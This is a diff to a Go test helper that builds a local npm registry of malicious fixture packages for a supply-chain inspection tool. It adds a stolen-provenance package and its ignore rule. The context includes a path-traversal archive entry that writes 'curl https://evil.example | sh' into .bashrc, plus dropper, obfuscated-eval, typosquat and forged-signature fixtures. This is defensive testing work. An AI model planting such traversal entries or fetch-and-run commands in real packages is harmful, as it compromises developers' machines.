@@ -36,8 +36,10 @@ func TestScriptInspect(t *testing.T) {
 
 // cmdInspectRegistry starts a test registry on loopback, publishes the
 // packages the inspection scripts use, writes their lockfiles under $WORK
-// (app/, clean/, old.json, new.json, ignores.yaml) and the registry's test root as
-// $WORK/roots.pem, and sets $INSPECT_REGISTRY.
+// (app/, clean/, old.json, new.json, ignores.yaml), the registry's test
+// certificate authority as $WORK/roots.pem and its Sigstore trusted root
+// (that authority and the test transparency log) as
+// $WORK/trusted-root.json, and sets $INSPECT_REGISTRY.
 func cmdInspectRegistry(ts *testscript.TestScript, neg bool, args []string) {
 	if neg || len(args) != 0 {
 		ts.Fatalf("usage: inspectregistry")
@@ -48,7 +50,7 @@ func cmdInspectRegistry(ts *testscript.TestScript, neg bool, args []string) {
 	}
 	ts.Defer(reg.Close)
 	lib := map[string]string{"index.js": "'use strict'\nmodule.exports = (s) => String(s).toUpperCase()\n"}
-	cleanPJ := `{"name":"clean-utils","version":"1.2.3","main":"index.js"}`
+	cleanPJ := `{"name":"clean-utils","version":"1.2.3","main":"index.js","repository":"github:acme/clean-utils"}`
 	clean := reg.Publish(npmregistrytest.Package{Name: "clean-utils", Version: "1.2.3", Provenance: true,
 		Files: map[string]string{"index.js": lib["index.js"], "package.json": cleanPJ}})
 	dropper := reg.Publish(npmregistrytest.Package{Name: "postinstall-dropper", Version: "2.0.0",
@@ -62,6 +64,8 @@ func cmdInspectRegistry(ts *testscript.TestScript, neg bool, args []string) {
 		{Name: "package/package.json", Body: `{"name":"traversal","version":"1.0.0"}`},
 		{Name: "package/../../.bashrc", Body: "curl https://evil.example | sh\n"},
 	})})
+	stolen := reg.Publish(npmregistrytest.Package{Name: "stolen-provenance", Version: "1.0.0", Provenance: true,
+		ProvenanceRepository: "https://github.com/mallory/stolen-provenance", Files: lib})
 	forged := reg.Publish(npmregistrytest.Package{Name: "forged-sig", Version: "3.0.0", BadSignature: true, Files: lib})
 	oldColour := reg.Publish(npmregistrytest.Package{Name: "colour-pal", Version: "2.3.1", Files: lib, Published: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)})
 	newColour := reg.Publish(npmregistrytest.Package{Name: "colour-pal", Version: "2.3.2", Scripts: map[string]string{"postinstall": "node install.js"},
@@ -83,7 +87,8 @@ func cmdInspectRegistry(ts *testscript.TestScript, neg bool, args []string) {
 		npmregistrytest.LockEntry{Name: "b64-eval", Version: "0.1.0", Integrity: evalPkg},
 		npmregistrytest.LockEntry{Name: "lodahs", Version: "4.17.21", Integrity: squat},
 		npmregistrytest.LockEntry{Name: "traversal", Version: "1.0.0", Integrity: trav},
-		npmregistrytest.LockEntry{Name: "forged-sig", Version: "3.0.0", Integrity: forged}))
+		npmregistrytest.LockEntry{Name: "forged-sig", Version: "3.0.0", Integrity: forged},
+		npmregistrytest.LockEntry{Name: "stolen-provenance", Version: "1.0.0", Integrity: stolen}))
 	write("clean/package-lock.json", reg.Lockfile(npmregistrytest.LockEntry{Name: "clean-utils", Version: "1.2.3", Integrity: clean}))
 	write("clean/node_modules/clean-utils/package.json", []byte(cleanPJ))
 	write("clean/node_modules/clean-utils/index.js", []byte(lib["index.js"]))
@@ -92,12 +97,14 @@ func cmdInspectRegistry(ts *testscript.TestScript, neg bool, args []string) {
 	write("new.json", reg.Lockfile(npmregistrytest.LockEntry{Name: "colour-pal", Version: "2.3.2", Integrity: newColour, InstallScript: true},
 		npmregistrytest.LockEntry{Name: "clean-utils", Version: "1.2.3", Integrity: clean}))
 	write("roots.pem", reg.RootsPEM())
+	write("trusted-root.json", reg.TrustedRootJSON())
 	write("ignores.yaml", []byte("ignore:\n  - signal: install-script-behaviour\n    package: colour-pal\n    reason: the ping is documented and opt-out\n    until: "+
 		time.Now().AddDate(0, 1, 0).Format(time.DateOnly)+"\n"))
 	until := time.Now().AddDate(0, 1, 0).Format(time.DateOnly)
 	write("app-ignores.yaml", []byte("ignore:\n"+
 		"  - signal: obfuscated\n    package: b64-eval\n    reason: vendored test fixture\n    until: "+until+"\n"+
 		"  - signal: bad-signature\n    package: forged-sig\n    reason: re-signed by our mirror\n    until: "+until+"\n"+
-		"  - signal: hostile-archive\n    reason: reviewed\n    until: "+until+"\n"))
+		"  - signal: hostile-archive\n    reason: reviewed\n    until: "+until+"\n"+
+		"  - signal: bad-attestation\n    package: stolen-provenance\n    reason: moved to a fork, upstream informed\n    until: "+until+"\n"))
 	ts.Setenv("INSPECT_REGISTRY", reg.URL())
 }
